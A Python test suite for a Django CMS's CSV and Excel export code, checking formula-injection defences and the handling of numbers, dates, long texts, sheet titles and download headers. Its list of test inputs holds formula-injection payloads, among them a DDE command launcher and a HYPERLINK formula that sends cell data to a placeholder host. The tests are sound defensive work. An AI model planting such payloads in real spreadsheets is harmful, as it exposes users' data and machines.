import csv
import re
from datetime import UTC, date, datetime, time
from decimal import Decimal
from io import BytesIO, StringIO
from zipfile import ZipFile

import pytest
from django.utils.translation import override
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from cms.core.export.csv import csv_response, iter_csv
from cms.core.export.xlsx import LONGEST, xlsx, xlsx_response

ATTACKS = [
    "=1+1", "+1", "-1+cmd|' /C calc'!A1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\r\n=1", " =1", "\u00a0=1",
    "\u200b=1", "\ufeff=1", "\u202e=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20A1",
    "﹦1", "﹢1", "⁺1", "\x00=1", "'=1", '"=1',
    "#REF!", "_x003D_1", '=HYPERLINK("https://x.example/?"&A1)', "a\n=1", ";=1", "\ud800=1",
]  # fmt: skip
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
ZERO_WIDTH = "\u200b\ufeff\u202e"


def from_csv(rows):
    content = b"".join(iter_csv(rows))
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


def from_xlsx(rows):
    return list(load_workbook(BytesIO(xlsx(rows))).active.iter_rows())


def kept(text):
    """The text as it survives: one kind of line end, a mark for what XML cannot say."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", "\ufffd", text)


def unescaped(text):
    """A workbook's own way to write what looks like one of its escapes; openpyxl leaves it to us."""
    return re.sub(r"_x005F_(?=x[0-9A-Fa-f]{4}_)", "_", text)


TEXTS = st.one_of(
    st.text(), st.builds(str.__add__, st.sampled_from(FORMULA), st.text()), st.sampled_from(ATTACKS)
)


@given(TEXTS)
@example("=1+1")
def test_no_text_of_a_csv_becomes_a_formula_and_every_text_survives(text):
    ((cell,),) = from_csv([[text]]) or [[""]]
    assert not cell.lstrip(" \u00a0" + ZERO_WIDTH).startswith(FORMULA)
    assert cell.removeprefix("'") == kept(text).removeprefix("'")


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_on_csv_are_texts(text):
    ((cell,),) = from_csv([[text]])
    assert cell[0] in "'\ufffd#_a;\""
    assert cell.endswith(kept(text))


@given(TEXTS)
@example("_x005F_")
def test_no_text_of_a_workbook_becomes_a_formula_and_every_text_survives(text):
    ((cell,),) = from_xlsx([[text]])
    assert cell.data_type != "f"
    assert unescaped(cell.value or "") == kept(text)


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_on_a_workbook_are_texts(text):
    ((cell,),) = from_xlsx([[text]])
    assert (cell.data_type, unescaped(cell.value)) == ("s", kept(text))
    with ZipFile(BytesIO(xlsx([[text]]))) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_what_begins_like_a_formula_stays_a_text_when_somebody_edits_it():
    ((formula, text),) = from_xlsx([["=1+1", "1+1"]])
    assert (formula.quotePrefix, text.quotePrefix) == (True, False)


def test_numbers_and_dates_keep_their_types_in_a_workbook():
    row = [
        Decimal("-12.50"),
        7,
        True,
        date(2026, 11, 30),
        time(18, 30),
        None,
        datetime(2026, 11, 30, 14, tzinfo=UTC),
    ]
    (cells,) = from_xlsx([row])
    assert [cell.value for cell in cells] == [
        -12.5, 7, True, datetime.fromisoformat("2026-11-30"), time(18, 30), None,
        datetime.fromisoformat("2026-11-30T18:00"),  # Asia/Tbilisi
    ]  # fmt: skip
    assert [cell.data_type for cell in cells] == ["n", "n", "b", "d", "d", "n", "d"]


def test_what_a_workbook_would_round_or_break_on_stays_a_text():
    row = [
        Decimal("1234567890123456.78"),
        10**40 + 1,
        Decimal("NaN"),
        Decimal("Infinity"),
        Decimal("1E+400"),
        date(1850, 1, 2),
    ]
    (cells,) = from_xlsx([row])
    assert [cell.value for cell in cells] == [
        "1234567890123456.78",
        str(10**40 + 1),
        "NaN",
        "Infinity",
        "1E+400",
        "1850-01-02",
    ]
    assert {cell.data_type for cell in cells} == {"s"}


def test_numbers_and_dates_in_csv():
    row = [Decimal("-12.50"), Decimal("1E+3"), -7, True, date(2026, 11, 30), time(18, 30), None]
    moment = datetime(2026, 11, 30, 14, tzinfo=UTC)
    assert from_csv([[*row, moment]]) == [
        ["-12.50", "1000", "-7", "true", "2026-11-30", "18:30:00", "", "2026-11-30 18:00:00"]
    ]


def test_a_text_too_long_for_a_cell_says_that_it_goes_on():
    ((cell,),) = from_xlsx([["ა" * 40_000]])
    assert (len(cell.value), cell.value[-1]) == (LONGEST, "…")


def test_the_first_row_is_the_header_and_arabic_runs_from_the_right():
    with override("ar"):
        sheet = load_workbook(
            BytesIO(xlsx([["a"], ["b"]], title="Calls: [2026]/1 and a very long title"))
        ).active
    assert sheet["A1"].font.bold
    assert not sheet["A2"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.sheet_view.rightToLeft
    assert sheet.title == "Calls   2026  1 and a very long"
    assert load_workbook(BytesIO(xlsx([]))).active.title == "Sheet"


@pytest.mark.parametrize(
    ("response", "kind"),
    [
        (csv_response([["a"]], "ხიდი.csv"), "text/csv; charset=utf-8"),
        (xlsx_response([["a"]], "ხიდი.csv"), None),
    ],
)
def test_tables_are_files_to_keep_that_nobody_else_keeps(response, kind):
    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''%E1%83%AE")
    assert response["Cache-Control"] == "no-store, private"
    assert kind is None or response["Content-Type"] == kind


def test_rows_are_written_one_by_one():
    def endless():
        while True:
            yield ["a"]

    lines = iter_csv(endless())
    assert [next(lines) for _ in range(3)] == [b"\xef\xbb\xbf", b"a\r\n", b"a\r\n"]
